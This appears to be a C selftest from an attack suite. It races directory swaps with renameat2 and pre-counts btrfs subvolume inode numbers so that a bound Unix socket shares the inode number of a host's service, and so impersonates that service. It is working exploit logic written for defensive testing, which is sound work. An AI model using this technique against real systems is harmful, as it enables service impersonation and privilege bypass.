/* SPDX-License-Identifier: MIT */
/*
 * A socket's file with the inode number of another: what the kernel says of a
 * bound socket (unix_diag) then fits both.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/btrfs.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "selftests/attacks/attack.h"

/* How often it is tried: without inode_is_new() one of ten succeeded. */
enum { TWINS = 60, TWIN_BINDS = 2000 };

static atomic_bool twin_over;

/* "here" leads to the service's directory, and to that of the twin. */
static void *flip_directories(void *arg)
{
	while (!twin_over)
		syscall(SYS_renameat2, AT_FDCWD, "here", AT_FDCWD, "there", RENAME_EXCHANGE);
	return arg;
}

/* The next inode of the subvolume is to have the number `ino`. */
static void count_up_to(const char *subvolume, ino_t ino)
{
	char path[PATH_MAX + 8];
	struct stat st;

	snprintf(path, sizeof(path), "%s/file", subvolume);
	do {
		int fd = (int)MUST(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));

		MUST(fstat(fd, &st));
		close(fd);
		unlink(path);
	} while (st.st_ino + 1 < ino);
}

/* A socket of one's own with the number of the service's, and while it is bound, the service. */
static void bind_twin(const char *subvolume)
{
	int fd = new_socket(AF_UNIX, SOCK_STREAM, 0);
	const struct sockaddr_un name = { .sun_family = AF_UNIX, .sun_path = "here/service" };
	pthread_t thread;

	MUST(symlink(subvolume, "here"));
	MUST(symlink("host", "there"));
	twin_over = false;
	errno = pthread_create(&thread, NULL, flip_directories, NULL);
	MUST(errno ? -1 : 0);
	for (int i = 0; i < TWIN_BINDS && bind(fd, (const struct sockaddr *)&name, sizeof(name));
	     i++)
		;
	twin_over = true;
	pthread_join(thread, NULL);
	unlink("here");
	unlink("there");
}

/* DIR, a btrfs: the service is in its subvolume "host", and of others each has its own numbers. */
static void run_service_by_twin(char **args)
{
	const struct sockaddr_un name = { .sun_family = AF_UNIX, .sun_path = "host/service" };
	struct stat service;

	if (chdir(args[0]) || stat("host/service", &service))
		absent("no btrfs can be mounted");
	for (int i = 0; i < TWINS; i++) {
		struct btrfs_ioctl_vol_args twin = { 0 };
		int fd = new_socket(AF_UNIX, SOCK_STREAM, 0);
		int dir = (int)MUST(open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC));

		snprintf(twin.name, sizeof(twin.name), "twin%d", i);
		MUST(ioctl(dir, BTRFS_IOC_SUBVOL_CREATE, &twin));
		close(dir);
		count_up_to(twin.name, service.st_ino);
		bind_twin(twin.name);
		if (connect(fd, (const struct sockaddr *)&name, sizeof(name)) == 0) {
			won("the host's service, with twin %d", i);
			return;
		}
		close(fd);
	}
}

const struct scenario twin_attacks[] = {
	{ "service_by_twin", run_service_by_twin },
	{ 0 },
};
